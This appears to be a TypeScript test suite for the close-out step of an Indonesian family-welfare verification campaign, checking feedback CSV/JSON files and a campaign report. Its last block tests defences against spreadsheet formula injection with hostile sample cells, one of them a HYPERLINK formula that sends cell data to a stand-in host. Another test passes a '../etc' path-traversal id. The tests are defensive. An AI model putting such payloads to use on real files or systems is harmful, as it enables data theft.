/**
 * Close-out on the real PostgreSQL: the feedback files for Kemenko PMK and the campaign report, from a campaign
 * seeded with one family in each state (test/support/seed-lifecycle.ts). Files go under .test-run/.
 */
import { mkdirSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { MockActivityEnvironment } from '@temporalio/testing';
import { DefaultLogger } from '@temporalio/worker';
import { createCloseoutActivities } from '../../activities/closeout/closeout-activities';
import { csvField, csvRecord } from '../../activities/closeout/feedback-records';
import { createPlanActivities, interventionPlanId } from '../../activities/planning/plan-activities';
import { openHarness, uniqueCampaignId, type Harness } from '../support/harness';
import { TEST_RUN_DIR } from '../support/stack-file';
import {
  DESA_1,
  DESA_2,
  FAMILY,
  KEEP_P3KE_MEMBERS,
  TRICKY_ADDRESS,
  TRICKY_NAME,
  VISIT_DATE,
  seedLifecycle,
  standardLifecycle,
} from '../support/seed-lifecycle';

let h: Harness;
const dataDir = join(TEST_RUN_DIR, `closeout-${process.pid}`);
const env = new MockActivityEnvironment(undefined, { logger: new DefaultLogger('ERROR', () => undefined) });
/** env.run with the activity's own types (its generic cannot infer the result from an object literal argument). */
const run = <P extends unknown[], R>(fn: (...args: P) => Promise<R>, ...args: P): Promise<R> => env.run(fn, ...args);
let closeout: ReturnType<typeof createCloseoutActivities>;
let plan: ReturnType<typeof createPlanActivities>;

beforeAll(async () => {
  h = await openHarness();
  closeout = createCloseoutActivities({ orm: h.orm, dataDir });
  plan = createPlanActivities({ orm: h.orm });
});
afterAll(async () => {
  await h?.close();
  rmSync(dataDir, { recursive: true, force: true });
});

/** RFC 4180 reader for the test: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): Record<string, string>[] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  let i = 0;
  while (i < text.length) {
    const ch = text[i];
    const next = text[i + 1];
    i += 1;
    if (quoted && ch === '"' && next === '"') {
      field += '"';
      i += 1;
    } else if (ch === '"') {
      quoted = !quoted;
    } else if (quoted) {
      field += ch;
    } else if (ch === ',') {
      record.push(field);
      field = '';
    } else if (ch === '\r' && next === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 1;
    } else {
      field += ch;
    }
  }
  const [header, ...rows] = records;
  return rows.map((r) => Object.fromEntries((header ?? []).map((name, n) => [name, r[n] ?? ''])));
}

async function seededCampaign(prefix: string): Promise<string> {
  const campaignId = uniqueCampaignId(prefix);
  await seedLifecycle(h.orm, standardLifecycle(campaignId));
  return campaignId;
}

const feedbackDir = (campaignId: string) => join(dataDir, 'feedback', campaignId);
const byFamily = (rows: Record<string, string>[]) => new Map(rows.map((r) => [r.id_keluarga_p3ke, r]));

describe('writeFeedbackFiles', () => {
  it('when the campaign is closed out, then the CSV and JSON hold every family and every quarantined record', async () => {
    const campaignId = await seededCampaign('feedback-all');
    const { files } = await run(closeout.writeFeedbackFiles, { campaignId });
    expect(files.map((f) => f.slice(feedbackDir(campaignId).length + 1))).toEqual(['feedback.csv', 'quarantine.csv', 'feedback.json']);
    expect(readdirSync(feedbackDir(campaignId)).sort()).toEqual(['feedback.csv', 'feedback.json', 'quarantine.csv']);

    const csv = parseCsv(readFileSync(files[0]!, 'utf8'));
    const json = JSON.parse(readFileSync(files[2]!, 'utf8')) as {
      campaignId: string;
      families: Record<string, unknown>[];
      quarantined: Record<string, unknown>[];
      totals: { families: number; quarantined: number };
    };
    const everyFamily = Object.values(FAMILY).sort();
    expect(csv.map((r) => r.id_keluarga_p3ke)).toEqual(everyFamily);
    expect(json.families.map((r) => r.id_keluarga_p3ke)).toEqual(everyFamily);
    expect(json.totals).toEqual({ families: 8, quarantined: 3 });

    const quarantine = parseCsv(readFileSync(files[1]!, 'utf8'));
    expect(quarantine).toEqual([
      { kind: 'family', source_position: '9', source_id: 'P3KE-6409042001-000009', reason_code: 'schema_invalid', reason: 'desil_kesejahteraan: must be 1-10' },
      { kind: 'family', source_position: '12', source_id: '', reason_code: 'schema_invalid', reason: 'id_keluarga_p3ke: missing, "required"' },
      { kind: 'individual', source_position: '40', source_id: 'IND-000040', reason_code: 'family_missing', reason: 'id_keluarga_p3ke refers to a family that is not in the snapshot' },
    ]);
    expect(json.quarantined).toEqual(quarantine.map((q) => ({ ...q, source_position: Number(q.source_position), source_id: q.source_id || null })));
  });

  it('when names and addresses hold commas, quotes and line breaks, then the CSV quotes them and they read back intact', async () => {
    const campaignId = await seededCampaign('feedback-quote');
    const { files } = await run(closeout.writeFeedbackFiles, { campaignId });
    const raw = readFileSync(files[0]!, 'utf8');
    expect(raw).toContain('"Jl. Poros Sepaku, RT 03\n""Gang Mawar"""');
    expect(raw).toContain('"Budi ""Obi"" Santoso, S.E."');
    expect(raw.split('\r\n').filter((line) => line.length > 0)).toHaveLength(1 + 8); // header + families, CRLF only between records
    const rows = byFamily(parseCsv(raw));
    expect(rows.get(FAMILY.unvisited)?.alamat).toBe(TRICKY_ADDRESS);
    expect(rows.get(FAMILY.plain)?.kepala_keluarga).toBe(TRICKY_NAME);
  });

  it('when families ended in different states, then each row carries its status, corrections, decision and findings', async () => {
    const campaignId = await seededCampaign('feedback-rows');
    const { files } = await run(closeout.writeFeedbackFiles, { campaignId });
    const rows = byFamily(parseCsv(readFileSync(files[0]!, 'utf8')));

    expect(rows.get(FAMILY.plain)).toMatchObject({
      verification_status: 'verified', settlement: 'settled', corrected_from: 'field', escalation_decision: '',
      mismatch_types: 'housing_changed;stunting_risk_unrecorded', desil_p3ke: '2', desil_kesejahteraan: '2',
      sumber_air_minum: 'sumur_tak_terlindung', jumlah_anggota: '4',
      resiko_stunting_p3ke: 'false', stunting_risk_precheck: 'false', stunting_risk_field: 'true', visit_date: VISIT_DATE,
    });
    // keep_p3ke: the corrected values are P3KE's, including its members' NIKs (the field had listed two others).
    expect(rows.get(FAMILY.keepP3ke)).toMatchObject({
      corrected_from: 'p3ke', escalation_decision: 'keep_p3ke', desil_kesejahteraan: '1', fasilitas_bab: 'tidak_ada',
      jenis_atap: 'bambu', jumlah_anggota: '3', nik_anggota: KEEP_P3KE_MEMBERS.map((m) => m.nik).join(';'),
      kepala_keluarga: 'Rahmat', stunting_risk_precheck: 'true', stunting_risk_field: 'true',
    });
    expect(rows.get(FAMILY.acceptField)).toMatchObject({
      corrected_from: 'field', escalation_decision: 'accept_field', desil_p3ke: '1', desil_kesejahteraan: '10', jenis_dinding: 'tembok',
    });
    expect(rows.get(FAMILY.open)).toMatchObject({
      verification_status: 'verified', settlement: 'pending_decision', escalation_decision: 'pending', desil_kesejahteraan: '', nik_anggota: '',
    });
    expect(rows.get(FAMILY.revisit)).toMatchObject({ settlement: 'pending_revisit', escalation_decision: 'revisit', jumlah_anggota: '' });
    expect(rows.get(FAMILY.revisited)).toMatchObject({
      settlement: 'settled', field_result_version: '2', mismatch_types: 'housing_changed', jenis_lantai: 'keramik_marmer',
    });
    expect(rows.get(FAMILY.gone)).toMatchObject({
      verification_status: 'not_found', settlement: 'not_verified', mismatch_types: 'outcome_not_verified', stunting_risk_field: '',
    });
    expect(rows.get(FAMILY.unvisited)).toMatchObject({
      verification_status: 'unvisited', settlement: 'unvisited', field_result_version: '', kepala_keluarga: '', desil_p3ke: '4',
    });
  });

  it('when the files are written again (a retry), then the same complete files replace them and no temporary file remains', async () => {
    const campaignId = await seededCampaign('feedback-retry');
    const first = await run(closeout.writeFeedbackFiles, { campaignId });
    const csvBefore = readFileSync(first.files[0]!, 'utf8');
    const second = await run(closeout.writeFeedbackFiles, { campaignId });
    expect(second).toEqual(first);
    expect(readFileSync(second.files[0]!, 'utf8')).toBe(csvBefore);
    expect(readdirSync(feedbackDir(campaignId)).sort()).toEqual(['feedback.csv', 'feedback.json', 'quarantine.csv']);
  });

  it('when an earlier attempt died mid-write, then its stale half file is removed and a live one is kept but never listed', async () => {
    const campaignId = await seededCampaign('feedback-crash');
    const dir = feedbackDir(campaignId);
    mkdirSync(dir, { recursive: true });
    const stale = join(dir, 'feedback.csv.tmp-1-dead');
    const live = join(dir, 'feedback.json.tmp-2-live');
    writeFileSync(stale, 'id_keluarga_p3ke,kode_kem');
    writeFileSync(live, '{"families":[');
    const hourAgo = new Date(Date.now() - 3_600_000);
    utimesSync(stale, hourAgo, hourAgo);
    await run(closeout.writeFeedbackFiles, { campaignId });
    expect(readdirSync(dir).sort()).toEqual(['feedback.csv', 'feedback.json', 'feedback.json.tmp-2-live', 'quarantine.csv']);
    const report = await run(closeout.buildCampaignReport, { campaignId, status: 'completed' });
    expect(report.feedbackFiles.map((f) => f.slice(dir.length + 1))).toEqual(['feedback.csv', 'feedback.json', 'quarantine.csv', 'report.json']);
  });

  it('when the campaign id could leave the data directory, then it fails without retrying', async () => {
    await expect(run(closeout.writeFeedbackFiles, { campaignId: '../etc' })).rejects.toMatchObject({ nonRetryable: true });
  });
});

describe('buildCampaignReport', () => {
  it('when a campaign with a decided plan closes, then the report and report.json carry its counts and breakdowns', async () => {
    const campaignId = await seededCampaign('report');
    await run(plan.proposeInterventionPlan, { campaignId, referenceDate: VISIT_DATE, budgetRupiah: 10_000_000_000, proposedBy: 'system' });
    await run(plan.recordPlanDecision, {
      planId: interventionPlanId(campaignId), decision: 'approve_partial', programmes: ['sanitation', 'stunting_iron_tablets'],
      reason: 'first tranche', decidedBy: 'pm-approver', role: 'program_manager',
    });
    const { files } = await run(closeout.writeFeedbackFiles, { campaignId });

    const report = await run(closeout.buildCampaignReport, { campaignId, status: 'completed' });
    expect(report).toMatchObject({
      campaignId,
      status: 'completed',
      snapshotId: `snap-${campaignId}`,
      counts: { fetched: 30, stored: 27, quarantined: 3, flagged: 2, proposed: 0, approved: 0 },
      quarantineByReason: { schema_invalid: 2, family_missing: 1 },
      flagsByCode: { STUNTING_RISK: 1, NIK_DUPLICATE: 2 },
      // Latest versions only: the revisited family's first-visit member_nik_missing is not counted.
      mismatchesByType: {
        housing_changed: 4, stunting_risk_unrecorded: 1, desil_inconsistent: 3, member_count_changed: 1, member_nik_missing: 1, outcome_not_verified: 1,
      },
      planStatus: 'partially_approved',
    });
    expect(report.interventionsByProgram.sanitation).toEqual({ families: 1, items: 1, costRupiah: 5_000_000, approved: 1, approvedRupiah: 5_000_000 });
    expect(report.interventionsByProgram.stunting_iron_tablets).toEqual({ families: 2, items: 2, costRupiah: 100_000, approved: 2, approvedRupiah: 100_000 });
    expect(report.interventionsByProgram.sembako).toMatchObject({ approved: 0, approvedRupiah: 0 });
    const reportPath = join(feedbackDir(campaignId), 'report.json');
    expect(report.feedbackFiles).toEqual([...files, reportPath].sort());

    const written = JSON.parse(readFileSync(reportPath, 'utf8')) as Record<string, unknown>;
    expect(written).toMatchObject({ ...report, generatedAt: expect.any(String) });
    expect(written.mismatchesByTypeAndDesa).toMatchObject({
      housing_changed: { [DESA_1]: 3, [DESA_2]: 1 },
      desil_inconsistent: { [DESA_1]: 1, [DESA_2]: 2 },
    });
    expect(written.desilShifts).toEqual([
      { p3keDesil: 1, verifiedDesil: 1, families: 1 },
      { p3keDesil: 1, verifiedDesil: 10, families: 1 },
      { p3keDesil: 2, verifiedDesil: 2, families: 1 },
      { p3keDesil: 3, verifiedDesil: 3, families: 1 },
    ]);
    expect(written.stuntingRisk).toEqual({ precheckFlagged: 1, assessedInField: 4, foundInField: 2, confirmed: 1, newlyFound: 1, notConfirmed: 0 });
    expect(written.familiesBySettlement).toEqual({ unvisited: 1, not_verified: 1, pending_decision: 1, pending_revisit: 1, settled: 4 });
  });

  it('when nothing was planned or written yet, then the plan parts are empty and only report.json is listed', async () => {
    const campaignId = await seededCampaign('report-bare');
    const report = await run(closeout.buildCampaignReport, { campaignId, status: 'cancelled' });
    expect(report).toMatchObject({ status: 'cancelled', planStatus: null, interventionsByProgram: {} });
    expect(report.feedbackFiles).toEqual([join(feedbackDir(campaignId), 'report.json')]);
  });
});

describe('feedback CSV cells (spreadsheet formula injection, OWASP)', () => {
  const columns: readonly [string, (r: { nama: string; selisih: number; padan: boolean }) => string | number | boolean][] = [
    ['nama', (r) => r.nama],
    ['selisih', (r) => r.selisih],
    ['padan', (r) => r.padan],
  ];

  it.each([
    ['=HYPERLINK("http://x.test/?d="&A1,"klik")', `"'=HYPERLINK(""http://x.test/?d=""&A1,""klik"")"`],
    ['+62 812 0000', "'+62 812 0000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\r=1', `"'\r=1"`],
  ])('when a text cell starts like a formula (%j), then it is written as text behind an apostrophe', (text, cell) => {
    expect(csvField(text)).toBe(cell);
  });

  it('when a cell is ordinary text, a negative number or a boolean, then it is written unchanged', () => {
    expect(csvField('Siti Aminah')).toBe('Siti Aminah');
    expect(csvField('Jl. A=B')).toBe('Jl. A=B'); // only the first character starts a formula
    expect(csvField(-3)).toBe('-3');
    expect(csvRecord(columns, { nama: '-Budi', selisih: -1.5, padan: false })).toBe("'-Budi,-1.5,false\r\n");
  });
});
